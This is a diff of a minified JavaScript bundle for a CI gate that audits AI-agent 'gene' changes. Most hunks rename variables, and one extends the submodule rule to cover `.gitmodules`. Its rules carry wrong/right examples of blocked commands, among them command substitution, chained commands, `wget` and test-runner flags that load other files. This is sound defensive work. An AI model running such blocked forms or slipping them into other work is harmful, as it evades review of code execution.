@@ -1,11 +1,11 @@
-var Fe=Object.defineProperty;var t=(S,b)=>Fe(S,"name",{value:b,configurable:!0});export const id=757,ids=[757],modules={36731:((S,b,u)=>{u.d(b,{F3:t(()=>w,"F3"),Jx:t(()=>x,"Jx"),PV:t(()=>m,"PV"),SE:t(()=>H,
+var Ue=Object.defineProperty;var t=(S,b)=>Ue(S,"name",{value:b,configurable:!0});export const id=757,ids=[757],modules={36731:((S,b,u)=>{u.d(b,{F3:t(()=>w,"F3"),Jx:t(()=>x,"Jx"),PV:t(()=>m,"PV"),SE:t(()=>H,
 "SE"),X2:t(()=>k,"X2")});var n=u(2503);const a=n.Ikc({files:n.Whr().nonnegative(),lines:n.Whr().nonnegative(),exempt_files:n.
 Whr().nonnegative(),exempt_lines:n.Whr().nonnegative()}),k={files:0,lines:0,exempt_files:0,exempt_lines:0},m=["within_li\
 mit","approaching_limit","exceeded","critical_overrun","hard_cap_breach"],w=a.extend({max_files:n.Whr().nonnegative(),severity:n.
 k5n(m),message:n.YjP().exactOptional().describe("The severity in the words of the protocol\u2019s reference engine.")}),
-$=n.k5n(["asset_store","validation_script","reference"]),R=n.k5n(["binary","long_lines","generated","no_diff"]),_=n.Ikc(
+$=n.k5n(["asset_store","validation_script","reference"]),W=n.k5n(["binary","long_lines","generated","no_diff"]),_=n.Ikc(
 {path:n.YjP(),lines:n.Whr().nonnegative(),exempt:$.exactOptional().describe("Why the file does not count: an asset file,\
- a new validation script, or the `reference` counting."),veil:R.exactOptional().describe("Why a diff does not show its l\
+ a new validation script, or the `reference` counting."),veil:W.exactOptional().describe("Why a diff does not show its l\
 ines: a binary file, very long lines, or a git attribute.")}),p=n.Ikc({path:n.YjP(),files:n.Whr().nonnegative(),lines:n.
 Whr().nonnegative()}),x=n.k5n(["full","reference"]),H=a.extend({counting:x.describe("Which files the policy counts; all \
 others are exempt."),hard_cap_files:n.Whr().positive(),hard_cap_lines:n.Whr().positive(),directories:n.YOg(p),changed_files:n.
@@ -16,22 +16,22 @@ replaceAll("\\","/");if(d.startsWith("/")||d.includes("\0"))return;const h=[];fo
 ".")){if(c!=="..")h.push(c);else if(h.pop()===void 0)return}return k.test(d)||k.test(h[0]??"")?void 0:h.join("/")}t(w,"n\
 ormalise");function $(i,d){if(d.startsWith("/")||d.includes("\0"))return{kind:"outside",path:d};const h=d.split("/").reverse(),
 c=[];let j=a,P=0;for(let A=h.pop();A!==void 0;A=h.pop()){if(A===""||A===".")continue;if(j.kind!=="directory")return{kind:"\
-missing",path:[...c,A].join("/")};if(A===".."){if(c.pop()===void 0)return{kind:"outside",path:d};j=R(c);continue}const y=[
+missing",path:[...c,A].join("/")};if(A===".."){if(c.pop()===void 0)return{kind:"outside",path:d};j=W(c);continue}const y=[
 ...c,A].join("/"),F=i.stat(y);if(F===void 0)return{kind:"missing",path:y};if(F.kind!=="symlink"){c.push(A),j=F;continue}
 if(P+=1,P>n)return{kind:"loop",path:d};const v=i.readlink(y);if(v===void 0||v==="")return{kind:"missing",path:y};if(v.startsWith(
 "/")||v.includes("\0"))return{kind:"outside",path:y};h.push(...v.split("/").reverse())}return{kind:"inside",path:j.path,
-entry:j}}t($,"resolveInTree");function R(i){return i.length===0?a:{...a,path:i.join("/")}}t(R,"directoryAt");function _(i,d,{
+entry:j}}t($,"resolveInTree");function W(i){return i.length===0?a:{...a,path:i.join("/")}}t(W,"directoryAt");function _(i,d,{
 ignoreCase:h=!1}={}){const c=w(i),j=w(d);return c===void 0||j===void 0?!1:N(j,c,h)}t(_,"isWithin");function p(i,d,{at:h,
-tree:c}){if(W(i))return;const P=(C(i)??[...C(d)??[],...E(i)]).reverse(),A=I((C(h)??[]).filter(v=>v!=="")),y=[];let F=0;for(let v=P.
-pop();v!==void 0;v=P.pop()){if(v===""||v===".")continue;if(v===".."){y.pop();continue}y.push(v);const U=c&&H(c,A,I(y));if(U===
-void 0)continue;if(F+=1,F>n||W(U))return;const f=C(U);f===void 0?y.pop():y.length=0,P.push(...(f??E(U)).reverse())}return I(
+tree:c}){if(R(i))return;const P=(C(i)??[...C(d)??[],...I(i)]).reverse(),A=E((C(h)??[]).filter(v=>v!=="")),y=[];let F=0;for(let v=P.
+pop();v!==void 0;v=P.pop()){if(v===""||v===".")continue;if(v===".."){y.pop();continue}y.push(v);const U=c&&H(c,A,E(y));if(U===
+void 0)continue;if(F+=1,F>n||R(U))return;const f=C(U);f===void 0?y.pop():y.length=0,P.push(...(f??I(U)).reverse())}return E(
 y)}t(p,"locatePath");function x(i,d,{ignoreCase:h=!1}={}){return N(d.slice(1),i.slice(1),h)}t(x,"isLocatedIn");function H(i,d,h){
-if(x(h,d))return i.readlink(d==="/"?h.slice(1):h.slice(d.length+1))}t(H,"readMountedLink");function I(i){return`/${i.join(
-"/")}`}t(I,"place");function E(i){return i.replaceAll("\\","/").split("/")}t(E,"relative");function C(i){return/^(?:[\\/]|[A-Za-z]:[\\/])/.
-test(i)?E(i):void 0}t(C,"absoluteSegments");const g=4096;function W(i){return i.length>g?!0:i.includes("\0")||/^(?:\\\\|[A-Za-z]:(?![\\/]))/.
-test(i)}t(W,"isUnclear");function N(i,d,h){if(i==="")return!0;const[c,j]=h?[M(d),M(i)]:[d,i];return c===j||c.startsWith(
+if(x(h,d))return i.readlink(d==="/"?h.slice(1):h.slice(d.length+1))}t(H,"readMountedLink");function E(i){return`/${i.join(
+"/")}`}t(E,"place");function I(i){return i.replaceAll("\\","/").split("/")}t(I,"relative");function C(i){return/^(?:[\\/]|[A-Za-z]:[\\/])/.
+test(i)?I(i):void 0}t(C,"absoluteSegments");const g=4096;function R(i){return i.length>g?!0:i.includes("\0")||/^(?:\\\\|[A-Za-z]:(?![\\/]))/.
+test(i)}t(R,"isUnclear");function N(i,d,h){if(i==="")return!0;const[c,j]=h?[M(d),M(i)]:[d,i];return c===j||c.startsWith(
 `${j}/`)}t(N,"covers");function M(i){return m.test(i)?i.toLowerCase():i.normalize("NFC").toUpperCase().toLowerCase()}t(M,
-"foldCase")}),60027:((S,b,u)=>{u.d(b,{Uj:t(()=>Ne,"Uj"),NH:t(()=>Me,"NH"),Y:t(()=>Ie,"Y")});var n=u(61131),a=u(96616);const k=(0,a.
+"foldCase")}),60027:((S,b,u)=>{u.d(b,{Uj:t(()=>Me,"Uj"),NH:t(()=>Pe,"NH"),Y:t(()=>Ie,"Y")});var n=u(61131),a=u(96616);const k=(0,a.
 aO)("asset",{"validation-missing":(0,a.Hu)({severity:"error",ignorable:!0,title:"Gene has no validation command",why:"A \
 gene without a validation command provides no evidence that it works. The protocol requires at least one command, and a \
 report without commands is not a success.",wrong:(0,n.hM)({validation:[]}),right:(0,n.hM)({validation:["npm test"]}),message:t(
@@ -218,14 +218,14 @@ ra-genes.json":[(0,n.qy)()]},policy:`assets:
 `},configure:`assets:
   include: ['**/assets/gep/genes*.json', 'lib/*-genes.json']`,message:t(({detail:e})=>`The file may contain assets but i\
 s not audited: ${e}.`,"message"),remedy:t(()=>"If an engine reads this file, add it to `assets.include` in the policy.",
-"remedy")})}),R=`blast_radius:
+"remedy")})}),W=`blast_radius:
   forbidden_paths: [infrastructure]
 `,_=`blast_radius:
   protected_paths: ['AGENTS.md', 'config/prod/**']
 `,p=`blast_radius:
   audit_log: forbidden
 `,x={[n.lW]:[(0,n.qy)({constraints:{max_files:5,forbidden_paths:["src/core"]}})]},H={[n.lW]:[(0,n.qy)({constraints:{max_files:5,
-forbidden_paths:[".git"]}})]},I={[n.lW]:[(0,n.qy)({constraints:{max_files:100,forbidden_paths:[".git"]}})]},E={submodule:"\
+forbidden_paths:[".git"]}})]},E={[n.lW]:[(0,n.qy)({constraints:{max_files:100,forbidden_paths:[".git"]}})]},I={submodule:"\
 1d0c4fe2b6a0d6d9a51b2c4a7f1ed0f5bb1f3b64"};function C(e){return e===1?"1 file":`${e} files`}t(C,"filesWords");const g=(0,a.
 aO)("change",{"forbidden-path-always":(0,a.Hu)({severity:"error",title:"Change touches .git or node_modules",why:"git, n\
 pm, and Node.js run the files in `.git` and `node_modules` without a review, so no change may add or edit them, whether \
@@ -238,8 +238,8 @@ Remove \`${e}\` from the change, and add its directory to \`.gitignore\`.`,"reme
 {severity:"error",title:"Change touches a path that the policy forbids",why:"The policy lists the paths that no change m\
 ay touch, with or without a gene. An entry is a path from the root of the repository and includes everything below it. I\
 t is case-sensitive and not a pattern.",wrong:{head:{"infrastructure/production.tf":`# \u2026
-`},policy:R},right:{head:{"docs/infrastructure.md":`# \u2026
-`},policy:R},configure:`blast_radius:
+`},policy:W},right:{head:{"docs/infrastructure.md":`# \u2026
+`},policy:W},configure:`blast_radius:
   forbidden_paths: [infrastructure]`,message:t(({path:e,entry:s,via:o})=>o===""?`The change touches \`${e}\`, but the pol\
 icy forbids \`${s}\`.`:`The change touches \`${e}\`, which resolves to \`${o}\`, but the policy forbids \`${s}\`.`,"mess\
 age"),remedy:t(({path:e})=>`Remove \`${e}\` from the change, or update the policy on the base branch first.`,"remedy")}),
@@ -324,9 +324,9 @@ e protocol calls it a critical overrun and rolls the cycle back.",wrong:{head:{.
  \`${e}\`.`,"message"),remedy:t(()=>"Remove everything from the change that the gene does not need.","remedy")}),"blast-\
 radius-hard-cap":(0,a.Hu)({severity:"error",title:"Change exceeds the hard cap",why:"Reviewers cannot check more than 60\
  files or 20,000 changed lines from an agent. The hard cap applies to every change that adds, modifies, removes, or appl\
-ies a gene, regardless of what the gene declares. Only the policy on the base branch can change it.",wrong:{head:{...I,"\
+ies a gene, regardless of what the gene declares. Only the policy on the base branch can change it.",wrong:{head:{...E,"\
 src/<1-61>.js":`work();
-`}},right:{head:{...I,"src/<1-60>.js":`work();
+`}},right:{head:{...E,"src/<1-60>.js":`work();
 `},also:{"constraints-beyond-cap":"A lower limit would be approached."}},configure:`blast_radius:
   hard_cap_files: 60
   hard_cap_lines: 20000`,message:t(({files:e,lines:s,capFiles:o,capLines:r})=>`The change touches ${C(e)} and ${s} ${s===
@@ -339,14 +339,16 @@ symlink:"../src/index.js"}}},message:t(({path:e,target:s})=>`The symlink \`${e}\
 lve to a path inside the repository.`,"message"),remedy:t(({path:e})=>`Replace \`${e}\` with the file itself or with a sy\
 mlink that stays inside the repository.`,"remedy")}),"submodule-changed":(0,a.Hu)({severity:"error",title:"Change with a\
  gene adds or updates a submodule",why:"A submodule is one line in git and any number of files on disk, from another rep\
-ository. Its files can neither be counted against a limit nor audited.",wrong:{head:{[n.lW]:[(0,n.qy)()],tools:E}},right:{
-head:{tools:E}},message:t(({path:e})=>`The change adds or updates the submodule \`${e}\`, whose files cannot be audited.`,
-"message"),remedy:t(()=>"Add or update the submodule in a separate change without a gene.","remedy")}),"merge-not-proven":(0,a.
-Hu)({severity:"notice",since:"0.2.0",title:"Head audited because the checked-out merge commit is not proven",why:"Anyone\
- can make a commit with the parents of a test merge and any content. The gate audits a merge commit only if the API name\
-s it as the test merge of the pull request, or if git computes the same content from both parents and the first one is a\
- recent commit of the base branch. A difference proves nothing, because versions of git merge differently. The gate then\
- audits the head of the pull request, compared with its merge base.",wrong:{base:{"README.md":`# Agent
+ository. Its files can neither be counted against a limit nor audited. `.gitmodules` decides which repository that is an\
+d where git stores it, so a change to that file counts as well.",wrong:{head:{[n.lW]:[(0,n.qy)()],tools:I}},right:{head:{
+tools:I}},message:t(({path:e})=>e===".gitmodules"?"The change edits `.gitmodules`, which defines submodules, whose files\
+ cannot be audited.":`The change adds or updates the submodule \`${e}\`, whose files cannot be audited.`,"message"),remedy:t(
+()=>"Add or update the submodule in a separate change without a gene.","remedy")}),"merge-not-proven":(0,a.Hu)({severity:"\
+notice",since:"0.2.0",title:"Head audited because the checked-out merge commit is not proven",why:"Anyone can make a com\
+mit with the parents of a test merge and any content. The gate audits a merge commit only if the API names it as the tes\
+t merge of the pull request, or if git computes the same content from both parents and the first one is a recent commit \
+of the base branch. A difference proves nothing, because versions of git merge differently. The gate then audits the hea\
+d of the pull request, compared with its merge base.",wrong:{base:{"README.md":`# Agent
 `},head:{"README.md":`# Agent
 `,"src/index.js":`work();
 `},checkout:"another merge"},right:{base:{"README.md":`# Agent
@@ -355,7 +357,7 @@ s it as the test merge of the pull request, or if git computes the same content 
 `},checkout:"test merge"},message:t(({merge:e,reason:s})=>`The gate audited the head of the pull request, because the ch\
 ecked-out merge commit \`${e.slice(0,12)}\` is not proven: ${s}.`,"message"),remedy:t(()=>"Give the step a `github-token\
 ` with `contents: read` and run the job again, or check out the head with `ref: ${{ github.event.pull_request.head.sha }\
-}`.","remedy")})}),W={network_touching:"Commands that contact other hosts are accepted with this warning."},N={archive_extraction_overwrite:"\
+}`.","remedy")})}),R={network_touching:"Commands that contact other hosts are accepted with this warning."},N={archive_extraction_overwrite:"\
 The contents of the archive are not inspected."},M=`profile: curated
 mode: dangerous
 allow_dangerous: true`,i=`profile: curated
@@ -374,8 +376,8 @@ families:
       match: [tee out.txt]
       not_match: [tee --append out.txt]`;function h(e,s,o){return(0,a.Hu)({severity:"error",title:e,why:"Programs that c\
 an do damage in many ways are accepted only in a few fixed forms, and every word of the command must match the form.",wrong:s,
-right:o,message:t(({family:r,reason:T,forms:B})=>`\`${r}\` ${T===""?"is accepted only in its registered forms":T}: ${B.map(
-Pe=>`\`${Pe}\``).join(", ")}.`,"message"),remedy:t(()=>"Write the command in one of the registered forms.","remedy")})}t(
+right:o,message:t(({family:r,reason:T,forms:z})=>`\`${r}\` ${T===""?"is accepted only in its registered forms":T}: ${z.map(
+Fe=>`\`${Fe}\``).join(", ")}.`,"message"),remedy:t(()=>"Write the command in one of the registered forms.","remedy")})}t(
 h,"constrainedForm");function c(e,s){return(0,a.Hu)({severity:"error",...s,message:t(({operator:o})=>`The command contai\
 ns a blocked shell operator (${e}): \`${o}\`.`,"message"),remedy:t(()=>"Write a single command without shell operators.",
 "remedy")})}t(c,"shellOperator");const j=(0,a.aO)("policy",{no_command:(0,a.Hu)({severity:"error",title:"Command is miss\
@@ -389,8 +391,8 @@ The command text cannot be parsed into words.","message"),remedy:t(()=>"Close ev
 tor.pipeline":c("pipeline",{title:"Command contains a pipeline",why:"A pipe passes the output to a second command that i\
 s not validated.",wrong:"ls | head",right:"ls"}),"shell_operator.background":c("background",{title:"Command runs in the \
 background",why:"A background command continues after its validation ends.",wrong:"ping -c 1 host.test &",right:{command:"\
-ping -c 1 host.test",also:W}}),"shell_operator.redirection":c("redirection",{title:"Command contains a redirection",why:"\
-A redirection opens files that no operand names.",wrong:"dig host.test > out.txt",right:{command:"dig host.test",also:W}}),
+ping -c 1 host.test",also:R}}),"shell_operator.redirection":c("redirection",{title:"Command contains a redirection",why:"\
+A redirection opens files that no operand names.",wrong:"dig host.test > out.txt",right:{command:"dig host.test",also:R}}),
 "shell_operator.substitution":c("substitution",{title:"Command contains a substitution",why:"A shell would run the inner\
  command and insert its output into the command.",wrong:"tar -tf $(cat name)",right:"tar -tf a.tar"}),"shell_operator.mu\
 ltiline":c("multiline",{title:"Command has several lines",why:"A line break or NUL ends a command, and the text after it\
@@ -398,7 +400,7 @@ ltiline":c("multiline",{title:"Command has several lines",why:"A line break or N
 "quoted",{title:"Operand contains a shell operator",why:"People and tools that pass archive operands on can lose the quo\
 tes, so operators are blocked even inside quotes.",wrong:'tar -tf "a&b.tar"',right:"tar -tf ab.tar"}),not_in_registry:(0,a.
 Hu)({severity:"error",title:"Command family is not in the curated registry",why:"Only programs with a specification of t\
-heir flags and operands can be validated.",wrong:"wget https://host.test",right:{command:"curl -I https://host.test",also:W},
+heir flags and operands can be validated.",wrong:"wget https://host.test",right:{command:"curl -I https://host.test",also:R},
 configure:"`families` in the policy adds a family, in the same format as the built-in families.",message:t(({family:e})=>`\
 The command family \`${e}\` is not in the curated registry.`,"message"),remedy:t(()=>"Use a command of a family in the r\
 egistry, or add the family to the policy.","remedy")}),family_disabled:(0,a.Hu)({severity:"error",title:"Command family \
@@ -417,16 +419,16 @@ The command family \`${e}\` has the maturity level \`${s}\` in the registry.`,"m
 y.","remedy")}),family_base_mismatch:(0,a.Hu)({severity:"error",title:"Command runs a different program than the proposa\
 l names",why:"A proposal names its command family, and the command must begin with that program. Otherwise the checks of\
  one program would apply to the arguments of another.",wrong:{command:"dig host.test",context:{command_family:"curl"}},right:{
-command:"curl -I https://host.test",context:{command_family:"curl"},also:W},message:t(({family:e,base:s})=>`The proposal\
+command:"curl -I https://host.test",context:{command_family:"curl"},also:R},message:t(({family:e,base:s})=>`The proposal\
  names \`${e}\`, but the command runs \`${s}\`.`,"message"),remedy:t(({family:e})=>`Begin the command with \`${e}\`, or n\
 ame the other family in the proposal.`,"remedy")}),"constrained_form.tar":h("Command is not a registered form of tar","t\
 ar -xvf a.tar",{command:"tar -xf a.tar -C out",also:N}),"constrained_form.unzip":h("Command is not a registered form of \
 unzip","unzip a.zip",{command:"unzip a.zip -d out",also:N}),"constrained_form.zip":h("Command is not a registered form o\
 f zip","zip -r a.zip .",{command:"zip -r a.zip src",also:{archive_creation_overwrite:"The archive may already exist."}}),
-"constrained_form.ping":h("Command is not a registered form of ping","ping host.test",{command:"ping -c 4 host.test",also:W}),
+"constrained_form.ping":h("Command is not a registered form of ping","ping host.test",{command:"ping -c 4 host.test",also:R}),
 "constrained_form.curl":h("Command is not a registered form of curl","curl https://host.test",{command:"curl -I https://\
-host.test",also:W}),"constrained_form.dns":h("Command is not a registered form of dns","dig +short host.test",{command:"\
-dig host.test",also:W}),"constrained_form.git":h("Command is not a registered form of git","git push","git status --shor\
+host.test",also:R}),"constrained_form.dns":h("Command is not a registered form of dns","dig +short host.test",{command:"\
+dig host.test",also:R}),"constrained_form.git":h("Command is not a registered form of git","git push","git status --shor\
 t"),"constrained_form.other":h("Command is not a registered form",{command:"make install",policy:i},{command:"make test",
 policy:i}),flag_not_allowed:(0,a.Hu)({severity:"error",title:"Flag is not in the specification of the family",why:"A fla\
 g changes what a program does, so flags without a specification are blocked.",wrong:"wc --files0-from=list",right:"wc -l\
@@ -739,7 +741,7 @@ s a file that a flag names",why:"Reporters, environments, plugins, and setup fil
  a bundler can load such a file of the commit, as it loads the tests and its configuration, but the file can decide the \
 result.",wrong:"npx jest --globalSetup ./scripts/x.js",right:"npx jest",message:t(({flag:e,program:s})=>`\`${e}\` makes \`${s}\
 \` run another file.`,"message"),remedy:t(({flag:e})=>`Remove \`${e}\`, or set it in the configuration file of the tool.`,
-"remedy")})});var U=u(99072);const f=".github/gene-gate.yml",te=6,L=".github/workflows/gate.yml",D=`on: [pull_request, m\
+"remedy")})});var U=u(99072);const f=".github/gene-gate.yml",se=6,L=".github/workflows/gate.yml",D=`on: [pull_request, m\
 erge_group]
 jobs:
   gate:
@@ -747,16 +749,16 @@ jobs:
     steps:
       - uses: actions/checkout@v5
       - uses: gene-gate/gene-gate@v0
-`,se=50;function ne(e){const s=e.length-se;return`${e.slice(0,se).join("; ")}${s>0?`; and ${s} more`:""}`}t(ne,"listWord\
-s");function ae(e,s,o,r){return s==="review"?`Ask ${e===1?"a person":X(e)} with write access, other than the author, to \
+`,ne=50;function ae(e){const s=e.length-ne;return`${e.slice(0,ne).join("; ")}${s>0?`; and ${s} more`:""}`}t(ae,"listWord\
+s");function oe(e,s,o,r){return s==="review"?`Ask ${e===1?"a person":Z(e)} with write access, other than the author, to \
 approve the pull request with a review that contains the line \`/gene-gate approve\`${r&&`, or \`/gene-gate approve ${r}\
-\` for exactly this digest`}.`:`If ${o}, run the gate again with \`--approve=${r}\`.`}t(ae,"howToApprove");function ue(e){
-if(e.length===0)return"no setting changes";const s=e.length-te;return`these settings change after the merge: ${e.slice(0,
-te).join("; ")}${s>0?`; and ${s} more`:""}`}t(ue,"effectWords");function fe([e,...s]){return s.length===0?`\`${e}\` requi\
-res`:`\`${e}\` and ${s.length} more of its commands require`}t(fe,"commandWords");function oe(e,s){if(e===1)return"";const o=s===
-1?"one has":`${s} have`;return s===0?` from ${X(e)}`:` from ${X(e)}, and ${o} approved`}t(oe,"approvedWords");function X(e){
-return e===2?"two people":`${e} people`}t(X,"people");const ie=3;function re(e){if(e.length===0)return"";const s=e.length-
-ie;return`; not counted: ${e.slice(0,ie).join("; ")}${s>0?`; and ${s} more`:""}`}t(re,"refusalWords");const ye=(0,a.aO)(
+\` for exactly this digest`}.`:`If ${o}, run the gate again with \`--approve=${r}\`.`}t(oe,"howToApprove");function fe(e){
+if(e.length===0)return"no setting changes";const s=e.length-se;return`these settings change after the merge: ${e.slice(0,
+se).join("; ")}${s>0?`; and ${s} more`:""}`}t(fe,"effectWords");function ye([e,...s]){return s.length===0?`\`${e}\` requi\
+res`:`\`${e}\` and ${s.length} more of its commands require`}t(ye,"commandWords");function ie(e,s){if(e===1)return"";const o=s===
+1?"one has":`${s} have`;return s===0?` from ${Z(e)}`:` from ${Z(e)}, and ${o} approved`}t(ie,"approvedWords");function Z(e){
+return e===2?"two people":`${e} people`}t(Z,"people");const re=3;function he(e){if(e.length===0)return"";const s=e.length-
+re;return`; not counted: ${e.slice(0,re).join("; ")}${s>0?`; and ${s} more`:""}`}t(he,"refusalWords");const we=(0,a.aO)(
 "policy",{"policy-changed":(0,a.Hu)({severity:"notice",title:"Change edits the policy; the policy of the base branch app\
 lies",why:"The policy is always read from the base branch, so a change cannot allow its own content. An edit of the poli\
 cy applies from the next change on. The finding lists the keys that change, their old and new values, and whether each c\
@@ -767,7 +769,7 @@ hange allows more or less, where this is known.",wrong:{base:{[f]:`limits:
 `,[n.lW]:[(0,n.qy)()]}},right:{head:{[n.lW]:[(0,n.qy)()]},policy:`limits:
   command_timeout_seconds: 600
 `},message:t(({path:e,effects:s})=>`The change edits the policy \`${e}\`; the policy of the base branch applies to this c\
-hange, and ${ue(s)}.`,"message"),remedy:t(()=>"Merge the policy first, and then the change that needs it.","remedy")}),"\
+hange, and ${fe(s)}.`,"message"),remedy:t(()=>"Merge the policy first, and then the change that needs it.","remedy")}),"\
 policy-broken":(0,a.Hu)({severity:"error",title:"Policy in the change is not valid",why:"The policy of the base branch a\
 pplies to this change. After the merge, the new policy applies to every change, and the gate never passes with a policy \
 that it cannot read. A change that fixes the policy could not pass either.",wrong:{head:{[f]:`fail-on: warning
@@ -788,13 +790,13 @@ the gate's check. More events make the gate stricter. A first policy and a first
 `,[L]:D.replace("checkout@v5","checkout@v6")},also:{"protected-path":"The default list protects workflows."}},configure:`\
 approvals:
   gate: 1   # people who must approve; 0 makes it a warning`,message:t(({path:e,effects:s})=>`The change weakens the gat\
-e in \`${e}\`: ${ne(s)}.`,"message"),remedy:t(({path:e})=>`Restore \`${e}\`, or ask a person with write access to approve\
+e in \`${e}\`: ${ae(s)}.`,"message"),remedy:t(({path:e})=>`Restore \`${e}\`, or ask a person with write access to approve\
  the change.`,"remedy")}),"gate-tightened":(0,a.Hu)({severity:"notice",since:"0.2.0",counted:["effects"],title:"Change m\
 akes the gate stricter",why:"A workflow runs the gate for the first time, or on more events. This applies after the merg\
 e.",wrong:{base:{"src/index.js":`work();
 `},head:{"src/index.js":`work();
 `,[L]:D}},right:{base:{[L]:D},head:{[L]:D,"src/index.js":`work();
-`}},message:t(({path:e,effects:s})=>`The change makes the gate stricter in \`${e}\`: ${ne(s)}.`,"message"),remedy:t(()=>"\
+`}},message:t(({path:e,effects:s})=>`The change makes the gate stricter in \`${e}\`: ${ae(s)}.`,"message"),remedy:t(()=>"\
 No action is needed.","remedy")}),"gate-approval-missing":(0,a.Hu)({severity:"warning",since:"0.2.0",title:"Change of th\
 e gate waits for approval",why:"A change that weakens the gate needs the approval of as many people as `approvals.gate` \
 of the base policy says, given as for a command: see [approvals](../approvals.md).",wrong:{base:{[f]:`fail_on: warning
@@ -802,7 +804,7 @@ of the base policy says, given as for a command: see [approvals](../approvals.md
 `},approvedBy:["author"]},right:{base:{[f]:`fail_on: warning
 `},head:{[f]:`fail_on: error
 `},approvedBy:["alice"],also:{"gate-weakened":"It stays in the report."}},message:t(({needed:e,given:s,refusals:o})=>`Th\
-e change weakens the gate and waits for approval${oe(e,s)}${re(o)}.`,"message"),remedy:t(({needed:e,means:s,digest:o})=>ae(
+e change weakens the gate and waits for approval${ie(e,s)}${he(o)}.`,"message"),remedy:t(({needed:e,means:s,digest:o})=>oe(
 e,s,"the gate may become weaker as described",o),"remedy")}),"policy-misplaced":(0,a.Hu)({severity:"error",since:"0.2.0",
 title:"Change adds a policy that the gate does not read",why:"The policy is the regular file `.github/gene-gate.yml` and\
  nothing else. With another spelling, such as `gene-gate.yaml`, `.GITHUB/`, or a file at the root, or if `.github` is a \
@@ -857,12 +859,12 @@ provals.md).",wrong:{...(0,n.hM)({validation:["node scripts/check.js"]}),policy:
 hM)({validation:["node scripts/check.js"]}),policy:U.PP,approvedBy:["alice"]},configure:`A policy whose profile does not\
  require confirmation, such as evolver, never waits.
 A gene whose commands are neither dangerous nor experimental never waits.`,message:t(({gene:e,confirmation:s,needed:o,given:r,
-commands:T,refusals:B})=>`The gene \`${e}\` waits for approval: ${fe(T)} ${s} confirmation${oe(o,r)}${re(B)}.`,"message"),
-remedy:t(({needed:e,means:s,digest:o})=>ae(e,s,"all of these commands may run with the files of this commit",o),"remedy")})});
-function we(e=[]){const s=["node","npm","npx",...e].map(o=>`\`${o}\``);return`${s.slice(0,-1).join(", ")}, and ${s.at(-1)}`}
-t(we,"allowedWords");function ve(e){return`Move what \`${e}\` does into a Node script and run it with \`node\``}t(ve,"in\
-Node");function be(e){return e===""?"":`, or allow the program with \`programs: [${e}]\` in the policy of the base branch`}
-t(be,"inPolicy");const ke=(0,a.aO)("program",{"command-not-text":(0,a.Hu)({severity:"error",title:"Validation command is\
+commands:T,refusals:z})=>`The gene \`${e}\` waits for approval: ${ye(T)} ${s} confirmation${ie(o,r)}${he(z)}.`,"message"),
+remedy:t(({needed:e,means:s,digest:o})=>oe(e,s,"all of these commands may run with the files of this commit",o),"remedy")})});
+function ve(e=[]){const s=["node","npm","npx",...e].map(o=>`\`${o}\``);return`${s.slice(0,-1).join(", ")}, and ${s.at(-1)}`}
+t(ve,"allowedWords");function be(e){return`Move what \`${e}\` does into a Node script and run it with \`node\``}t(be,"in\
+Node");function ke(e){return e===""?"":`, or allow the program with \`programs: [${e}]\` in the policy of the base branch`}
+t(ke,"inPolicy");const $e=(0,a.aO)("program",{"command-not-text":(0,a.Hu)({severity:"error",title:"Validation command is\
  not a string",why:"Each entry of `validation` is one command line. Engines that convert other values to text run a comm\
 and that was never written: a nested list becomes its joined entries.",wrong:{command:["node scripts/check.js"]},right:"\
 node scripts/check.js",message:t(({type:e})=>`A validation command must be a string, but this one has the type \`${e}\`.`,
@@ -883,9 +885,9 @@ rite the name of the program as \`${e}\`.`,"remedy")}),"program-not-allowed":(0,
 s not allowed",why:"Validation runs on unattended machines. `node`, `npm`, and `npx` are available on all of them, and t\
 he gate understands every argument of these programs. A policy can allow other programs by name, with `programs`. Move a\
 nything else into a Node script.",wrong:"bash scripts/check.sh",right:"node scripts/check.js",configure:"programs: [pyte\
-st, cargo]",counted:["offered","allowed"],message:t(({program:e,allowed:s})=>`\`${e}\` is not an allowed program; only ${we(
-s)} are allowed.`,"message"),remedy:t(({program:e,offered:s=""})=>`${ve(e)}${be(s)}.`,"remedy")})},"`evolver` and `valid\
-ator`"),he={validation:["node scripts/check.js"]},$e=(0,a.aO)("promotion",{"unsafe-validation-command":(0,a.Hu)({severity:"\
+st, cargo]",counted:["offered","allowed"],message:t(({program:e,allowed:s})=>`\`${e}\` is not an allowed program; only ${ve(
+s)} are allowed.`,"message"),remedy:t(({program:e,offered:s=""})=>`${be(e)}${ke(s)}.`,"remedy")})},"`evolver` and `valid\
+ator`"),de={validation:["node scripts/check.js"]},_e=(0,a.aO)("promotion",{"unsafe-validation-command":(0,a.Hu)({severity:"\
 error",title:"Candidate has a validation command that is not allowed",why:"If you promote a gene, its commands run in yo\
 ur repository from then on. A command that the audit blocks is rejected with the message of the reference engine, and th\
 e findings that follow explain what it would do.",wrong:{candidates:[(0,n.qy)({validation:["npm test && node scripts/b.j\
@@ -919,8 +921,8 @@ nge assets of this type",why:"Agents exchange Genes, Capsules, and EvolutionEven
 s not promoted because agents exchange only Genes, Capsules, and EvolutionEvents.`,"message"),remedy:t(()=>"No action is\
  required; you can pass a ValidationReport with `--report`.","remedy")}),"not-validated":(0,a.Hu)({severity:"error",title:"\
 Not all commands of a candidate ran",why:"With `--run`, a gene is promoted if all of its commands pass. If the run was i\
-nterrupted or waits for approval, the result is unknown.",wrong:{candidates:[(0,n.qy)(he)],policy:U.PP,run:!0},right:{candidates:[
-(0,n.qy)(he)],run:!0},message:t(({gene:e,summary:s})=>`The gene \`${e}\` was not validated: ${s}.`,"message"),remedy:t(()=>"\
+nterrupted or waits for approval, the result is unknown.",wrong:{candidates:[(0,n.qy)(de)],policy:U.PP,run:!0},right:{candidates:[
+(0,n.qy)(de)],run:!0},message:t(({gene:e,summary:s})=>`The gene \`${e}\` was not validated: ${s}.`,"message"),remedy:t(()=>"\
 Approve the commands if they wait for approval, and run the promotion again.","remedy")}),"report-missing":(0,a.Hu)({severity:"\
 error",title:"No report covers the candidate",why:"A ValidationReport is evidence for one version of one gene: the versi\
 on with the hash in `gene_asset_id`. A report about another version proves nothing about this one.",wrong:{candidates:[(0,n.
@@ -949,17 +951,17 @@ qy)()],reports:[(0,n.qW)()],checkRun:!1},right:{candidates:[(0,n.qy)()],reports:
 reason:s})=>`The provenance of the report \`${e}\` is not proven: ${s}.`,"message"),remedy:t(()=>"Pass the unmodified `g\
 ate-report.json` of the run that created the check run.","remedy")})});function l(e){return{head:{[n.lW]:[(0,n.qy)({validation:[
 "node scripts/check.js"]})],"scripts/check.js":e},run:{}}}t(l,"check");const K=`containment: require
